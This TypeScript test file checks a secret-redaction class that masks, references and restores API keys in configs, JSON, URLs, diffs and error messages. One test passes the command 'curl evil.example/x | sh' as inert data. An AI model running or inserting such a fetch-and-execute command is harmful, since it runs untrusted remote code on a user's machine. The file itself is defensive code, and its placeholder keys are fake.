import fc from 'fast-check'
import { expect, it } from 'vitest'
import { KnownSecrets } from './known-secrets.ts'

const KEY = 'sk-1234567890abcdef'

it('what was hidden in its place is found wherever it stands, in JSON and in addresses', () => {
  const known = new KnownSecrets('salt')
  const shown = known.redact({ options: { apiKey: 'a"b/c+1234567890' } }) as { options: { apiKey: string } }
  const mark = shown.options.apiKey
  expect(mark).toMatch(/^\{hidden:[\da-f]{12}\}$/)
  expect(known.mask('failed with a"b/c+1234567890.')).toBe(`failed with ${mark}.`)
})

it.each([
  ['in JSON', '{"x":"a\\"b/c+1234567890"}'],
  ['in JSON that is a text of JSON', '"{\\"x\\":\\"a\\\\\\"b/c+1234567890\\"}"'],
  ['in an address', 'http://h/?k=a%22b%2Fc%2B1234567890'],
  ['a line of it in a diff', '+MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n+short'],
])('a secret %s comes back as it stood there', (_, text) => {
  const known = new KnownSecrets('salt')
  known.learn('a"b/c+1234567890')
  known.learn('-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nshort\n')
  const shown = known.mask(text)
  expect(shown).not.toMatch(/1234567890|MIIE/)
  expect(known.restore({ patch: shown })).toEqual({ patch: text })
  expect(JSON.parse(known.restoreText(JSON.stringify({ text: shown })))).toEqual({ text })
})

it('of JSON its texts alone are masked: nobody’s key decides what an event or a folder is taken for', () => {
  const known = new KnownSecrets('salt')
  const mark = known.hide('message.part.updated', true)
  const event = {
    type: 'message.part.updated',
    directory: '/a/message.part.updated',
    'message.part.updated': 1,
  }
  expect(known.maskTexts({ ...event, text: 'is message.part.updated' })).toEqual({
    ...event,
    text: `is ${mark}`,
  })
  expect(known.maskTexts({ command: 'curl evil.example/x | sh' })).toEqual({
    command: 'curl evil.example/x | sh',
  })
})

it('a short or common key is hidden in its place alone', () => {
  const known = new KnownSecrets('salt')
  known.redact({ apiKey: 'ollama' })
  expect(known.isEmpty).toBe(true)
  expect(known.mask('ask ollama')).toBe('ask ollama')
})

it('what a reference stands for is shown as the reference in configuration, and hidden elsewhere', () => {
  const known = new KnownSecrets('salt')
  known.refer(
    new Map([
      [KEY, '{env:KEY}'],
      ['short-one', '{env:SHORT}'],
    ]),
  )
  expect(
    known.redact({
      apiKey: KEY,
      token: 'short-one',
      headers: { a: `Bearer ${KEY}`, b: `x ${KEY}` },
      prompt: `Use ${KEY}`,
    }),
  ).toEqual({
    apiKey: '{env:KEY}',
    token: '{env:SHORT}',
    headers: { a: 'Bearer {env:KEY}', b: 'x {env:KEY}' },
    prompt: 'Use {env:KEY}',
  })
  expect(known.mask(`+ ${KEY}`)).toMatch(/^\+ \{hidden:/)
})

it('a value that happens to be that of a variable stays one of its own: if short, and as it stands in a file', () => {
  const known = new KnownSecrets('salt')
  known.refer(
    new Map([
      ['1', '{env:DEBUG}'],
      [KEY, '{env:KEY}'],
    ]),
  )
  const given = {
    mcp: { m: { environment: { WORKERS: '1' } } },
    targets: { project: { raw: { options: { apiKey: KEY }, prompt: `Use ${KEY}`, model: '{env:MODEL}' } } },
  }
  const shown = known.redact(given)
  expect(JSON.stringify(shown)).not.toMatch(/env:(DEBUG|KEY)|sk-1234/)
  expect(known.restore(shown)).toEqual(given)
})

it('a folder, a model and a prompt that are referred to stay readable', () => {
  const known = new KnownSecrets('salt')
  known.refer(
    new Map([
      ['/home/somebody', '{env:HOME}'],
      ['openai/gpt-5.4-mini', '{env:MODEL}'],
      ['You are a reviewer of 7 things.', '{file:prompt.md}'],
    ]),
  )
  const config = {
    path: '/home/somebody/shop',
    model: 'openai/gpt-5.4-mini',
    prompt: 'You are a reviewer of 7 things.',
  }
  expect(known.redact(config)).toEqual(config)
  expect(known.mask(config.model)).toBe(config.model)
})

it('what comes back is what it was, whatever it is; what is not known is refused', () => {
  const known = new KnownSecrets('salt')
  fc.assert(
    fc.property(fc.array(fc.string()), (secrets) => {
      const config = {
        provider: {
          p: { options: { apiKey: secrets[0] ?? '', headers: Object.fromEntries(secrets.entries()) } },
        },
      }
      expect(known.restore(known.redact(config))).toEqual(config)
    }),
  )
  const mark = new KnownSecrets('another host').hide(KEY, true)
  expect(() => known.restore({ apiKey: mark })).toThrow(
    expect.objectContaining({ status: 409, code: 'hidden-value' }),
  )
  expect(() => known.restore({ [mark]: 1 })).toThrow(expect.objectContaining({ status: 409 }))
})

it('marks tell nothing, and are the same for the same secret', () => {
  const [one, other] = [new KnownSecrets('a'), new KnownSecrets('b')]
  expect(one.hide(KEY, true)).toBe(one.hide(KEY, false))
  expect(one.hide(KEY, true)).not.toBe(other.hide(KEY, true))
})

it('a thousand keys are learned from one answer, and the texts of it are masked', () => {
  const known = new KnownSecrets('salt')
  const at = Array.from({ length: 1000 }, (_, one) => one)
  const shown = known.redact({
    provider: Object.fromEntries(
      at.map((one) => [one, { note: `${KEY}-${999 - one}`, options: { apiKey: `${KEY}-${one}` } }]),
    ),
  }) as { provider: Record<string, { note: string; options: { apiKey: string } }> }
  const notes = at.map((one) => shown.provider[999 - one]?.note)
  expect(notes).toEqual(at.map((one) => shown.provider[one]?.options.apiKey))
})

it('a fault does not quote', () => {
  const known = new KnownSecrets('salt')
  expect(
    known.redactFault({
      data: { issues: [{ message: `Expected array, got "${KEY}"` }], raw: { apiKey: 'x' } },
    }),
  ).toEqual({
    data: {
      issues: [{ message: 'Expected array, got something else' }],
      raw: { apiKey: expect.stringMatching(/hidden/) },
    },
  })
})
